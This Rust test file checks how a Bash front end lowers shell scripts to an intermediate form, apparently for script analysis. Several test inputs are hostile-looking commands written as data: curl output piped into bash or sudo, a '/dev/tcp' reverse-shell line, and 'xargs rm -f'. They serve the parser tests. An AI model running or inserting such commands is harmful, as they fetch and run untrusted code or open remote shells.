//! Scripts, and what they are lowered to.

use crate::front::show;
use crate::ir::{File, FileId, Language, Program};

fn lowered(text: &str) -> (Program, bool) {
    let mut program = Program::default();
    program
        .files
        .push(File::new("a.sh".to_owned(), Language::Bash, text.to_owned()));
    super::lower(&mut program, FileId(0));
    let broken = program.files[0].broken;
    (program, broken)
}

fn check(text: &str, expected: &str) {
    let (program, _) = lowered(text);
    let module = program.files[0].module.unwrap();
    let shown = show::block(&program, &program.functions[module.0 as usize].body);
    assert_eq!(shown, expected, "{text}");
}

#[test]
fn words_lose_their_quotes() {
    check(
        r#"c'u'r"l" 'a'"b$c" $'\x41\n' a\ b ~"#,
        "sh:curl(['ab', sh:c], 'A\n', 'a b', '~')",
    );
    check(
        "/usr/bin/wg$@et x{1,2}y {a..c}",
        "sh:wget('x1y', 'x2y', 'a', 'b', 'c')",
    );
}

#[test]
fn pipelines_flow_into_stdin() {
    check(
        "curl -s u | sudo -u x bash -s",
        "sh:sudo('-u', 'x'), sh:bash('-s', stdin=sh:curl('-s', 'u'))",
    );
    check("bash <(curl u)", "sh:bash(stdin=sh:curl('u'))");
    check(
        "echo a | xargs -n 1 rm -f",
        "sh:rm('-f', sh:xargs('-n', '1', stdin=sh:echo('a')))",
    );
}

#[test]
fn redirections_are_calls() {
    check(
        "bash -i >& /dev/tcp/h/1 0>&1",
        "sh:/dev/tcp('/dev/tcp/h/1', sh:bash('-i', stdin=sh:/dev/tcp('/dev/tcp/h/1')))",
    );
    check(
        "exec 5<>/dev/tcp/h/1; cat <&5",
        "v0 = sh:/dev/tcp('/dev/tcp/h/1'); sh:cat(stdin=v0)",
    );
    check(
        "a > f 2>/dev/null; b >/dev/null; c 2>&1",
        "sh:>('f', sh:a()); sh:b(); sh:c()",
    );
    check(
        "cat <<E > f | sh\nx $y\nE\nls",
        "sh:sh(stdin=sh:>('f', sh:cat(stdin=['x ', sh:y]))); sh:ls()",
    );
    check(
        "cat <<'E' <<F\n$x\nE\n$y `id`\nF\n",
        "sh:cat(stdin=[sh:y, ' ', sh:id()])",
    );
}

#[test]
fn variables_and_expansions() {
    check(
        "x=1; y=${x}a; echo ${y:-b} ${y/a/c} ${#y} ${!y} $HOME",
        "x = '1'; y = [x, 'a']; sh:echo((y Or 'b'), sh:${x/p}(y, 'a', 'c'), sh:${#}(y), sh:${!}(y), sh:HOME)",
    );
    check(
        "x=ab; echo ${x:0:1}$((1 + 2*3))",
        "x = 'ab'; sh:echo([x[0:1], (1 Add (2 Multiply 3))])",
    );
    check(
        "a=(1 2); a+=(3); echo ${a[1]} \"${a[@]}\"",
        "a = list('1', '2'); a = list(*a, *list('3')); sh:echo(a[1], *a)",
    );
    check(
        "echo ${!a+x} \"${!b}\"; coproc P { c; }",
        "sh:echo(sh:${!}(sh:a), sh:${!}(sh:b)); sh:c()",
    );
    check("export PATH=/x:$PATH", "PATH = ['/x:', PATH]; sh:PATH = PATH");
}

#[test]
fn control_flow() {
    check(
        "if [ $a = b ]; then c; elif d; then e; else f; fi",
        "if sh:test(sh:a, '=', 'b') { sh:c() } else { if ?(sh:d()) { sh:e() } else { sh:f() } }",
    );
    check("while true; do a; break; done", "while true { sh:a(); break }");
    check(
        "while read -r l; do $l; done < f",
        "v0 = sh:<('f'); while true { v1 = sh:read('-r', 'l', stdin=v0); l = v1; if Not ?() { break }; sh:$(l) }",
    );
    check(
        "for i in a $b; do c $i; done",
        "for i in list('a', *sh:split(sh:b)) { sh:c(i) }",
    );
    check(
        "a && b || c",
        "v0 = ?(sh:a()); if v0 { v0 = ?(sh:b()) }; if Not v0 { sh:c() }",
    );
    check(
        "case $x in a|b) c;; *) d;; esac",
        "v0 = sh:x; if (sh:case(v0, 'a') Or sh:case(v0, 'b')) { sh:c() } else { if true { sh:d() } }",
    );
}

#[test]
fn functions_return_what_they_print() {
    check(
        "f() { local u=$1; curl $u; echo $2; }\nx=$(f a b)",
        "f = function(arguments, stdin) { v0 = ''; u = arguments[0]; v0 = sh:curl(u); v0 = [v0, '\n', sh:echo(arguments[1])]; return v0 }; x = f('a', 'b')",
    );
}

#[test]
fn hostile_text_ends() {
    let (_, broken) = lowered(&"$((".repeat(20_000));
    assert!(broken);
    for piece in [
        "(",
        "$(",
        "`",
        "{",
        "${x:-",
        "\"$(",
        "if x; then ",
        "case x in a) ",
        "<<E ",
        "f() ",
        "[[ ! ",
        "((",
        "{a,",
        "'",
        "a=(",
        "x[",
        "$[",
        "@(",
    ] {
        lowered(&piece.repeat(10_000));
        lowered(&format!("{piece}\n").repeat(3_000));
    }
}
